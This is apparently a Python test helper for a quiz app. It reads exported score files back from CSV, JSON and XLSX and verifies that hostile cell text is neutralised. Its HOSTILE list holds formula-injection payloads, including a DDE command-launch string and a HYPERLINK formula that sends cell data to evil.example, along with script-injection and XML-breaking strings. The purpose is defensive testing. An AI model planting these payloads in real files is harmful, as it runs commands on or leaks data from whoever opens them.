"""Reads the files of scores back with readers of other people, and what is hostile to them."""

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from typing import get_args, get_type_hints
from xml.etree import ElementTree

import python_calamine

from quizapp.core.scores import ROW_KINDS
from quizapp.formats.csv_scores import safe_text

NOW = datetime(2026, 11, 22, 10, 42, 7, tzinfo=UTC)
SAMPLES = {str: "plain", int: 3, Decimal: Decimal("0.6666667"), datetime: NOW}

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "{=SUM(A1:A9)}",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\u200b=1",  # zero-width space
    "\ufeff=1",
    "\u202e=1",  # right-to-left override
    "\uff1d1",  # full-width =
    "'=1",
    "1e5",
    "007",
    "2026-11-22",
    "TRUE",
    "#REF!",
    "https://evil.example/",
    "mailto:mallory@evil.example",
    "internal:attempts!A1",
    "<r>x</r>",  # xlsxwriter's own mark of a rich text
    "<r><t>x</t></r></is></c></row></sheetData>",
    "<r>_x0041_</r>",
    "<f>1+1</f>",
    "]]><!-- & &amp; &#0;",
    "_x0041_ _x000D_ _x005F_",
    "=_x005F_x0041_x0042_",
    '"quoted", \\"back\\slashed\\"',
    "two\nlines",
    "two\r\nlines and \r one more",
    " leading and trailing ",
    "\u00a0",
    "\x01\x02\x0b\x0c\x1b\x1f controls",
    "\x7f\x80\x85\x9f more controls",
    "\u2028 line and paragraph ends \u2029",
    "\ufffe\uffff no characters",
    "e\u0301 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\U0001f469\u200d\U0001f52c\U0001f3f3\ufe0f \U0001f41f",
    "x" * 40_000,
    "\U0001f41f" * 20_000,
    "</script><script>alert(1)</script>",
]


def rows_of(kind, text="plain"):
    """Return a row of this kind with `text` in every column of texts, and one with nothing."""
    samples = {**SAMPLES, str: text}
    hints = get_type_hints(ROW_KINDS[kind])
    full = [samples[(get_args(hint) or (hint,))[0]] for hint in hints.values()]
    bare = [
        None if type(None) in get_args(hint) else value
        for hint, value in zip(hints.values(), full, strict=True)
    ]
    return [full, bare]


# --- readers: bytes in, rows as dicts by table out ------------------------------------------


def read_csv(data):
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return {_kind_of(rows.fieldnames): [_read_row(row, _from_csv) for row in rows]}


def read_json(data):
    document = json.loads(data, parse_float=Decimal)
    return {kind: [_read_row(row, _from_json) for row in document[kind]] for kind in ROW_KINDS}


def read_xlsx(data):
    check_xml(data)
    book = python_calamine.load_workbook(io.BytesIO(data))
    assert book.sheet_names == [*ROW_KINDS, "codebook"]
    found = {}
    for kind in ROW_KINDS:
        names, *rows = book.get_sheet_by_name(kind).to_python()
        found[kind] = [_read_row(dict(zip(names, row, strict=True)), _from_xlsx) for row in rows]
    return found


def check_xml(data):
    """Every part is XML, and no cell is a formula, a link or a truth value."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert parts.testzip() is None
        assert not [name for name in parts.namelist() if "sharedStrings" in name]
        for name in parts.namelist():
            tree = ElementTree.fromstring(parts.read(name))  # noqa: S314  we have just made it
            tags = {element.tag.rpartition("}")[2] for element in tree.iter()}
            assert not tags & {"f", "hyperlink", "hyperlinks"}, name
            kinds = {cell.get("t") for cell in tree.iter() if cell.tag.endswith("}c")}
            assert kinds <= {None, "inlineStr"}, name


def _kind_of(names):
    return "responses" if "response" in names else "attempts"


def _types(row):
    hints = get_type_hints(ROW_KINDS[_kind_of(row)])
    return {name.rstrip("_"): (get_args(hint) or (hint,))[0] for name, hint in hints.items()}


def _read_row(row, understood):
    types = _types(row)
    assert list(row) == list(types)
    return {name: understood(types[name], cell) for name, cell in row.items()}


def _from_csv(type_, cell):
    if type_ is str:
        return cell
    if not cell:
        return None
    return datetime.fromisoformat(cell) if type_ is datetime else type_(cell)


def _from_json(type_, cell):
    if type_ is datetime and cell is not None:
        return datetime.fromisoformat(cell)
    if type_ is Decimal and cell is not None:
        return Decimal(cell)
    assert cell is None or type(cell) is type_
    return cell


def _from_xlsx(type_, cell):
    if type_ is str:
        assert type(cell) is str
        return cell
    if cell == "":
        return None
    if type_ is datetime:
        assert type(cell) is datetime
        return cell.replace(tzinfo=UTC)
    assert type(cell) is float
    return type_(repr(cell)) if type_ is Decimal else type_(cell)


READERS = {"csv": read_csv, "json": read_json, "xlsx": read_xlsx}


def differing(found, wanted):
    """Return where rows are not as wanted, in few words: texts here are up to 40,000 letters."""
    if [*map(len, found.values())] != [*map(len, wanted.values())] or [*found] != [*wanted]:
        return ["other rows"]
    return [
        f"{kind} {number} {name}: {cell!a:.60} for {meant[name]!a:.60}"
        for kind in wanted
        for number, (row, meant) in enumerate(zip(found[kind], wanted[kind], strict=True))
        for name, cell in row.items()
        if cell != meant[name]
    ]


# --- what a format says that it keeps of a text ---------------------------------------------


def xlsx_keeps(text):
    """Line ends are one, what XML cannot hold is gone, and what is too long is cut."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    gone = {*map(chr, range(32)), "\ufffe", "\uffff"} - {"\t", "\n"}
    text = "".join(letter for letter in text if letter not in gone)
    units = [2 if ord(letter) > 0xFFFF else 1 for letter in text]
    if sum(units) <= 32_767:
        return text
    while sum(units) > 32_766:
        units = units[: len(units) - max(1, (sum(units) - 32_766) // 2)]
    return text[: len(units)] + "…"


KEEPS = {"csv": safe_text, "json": str, "xlsx": xlsx_keeps}
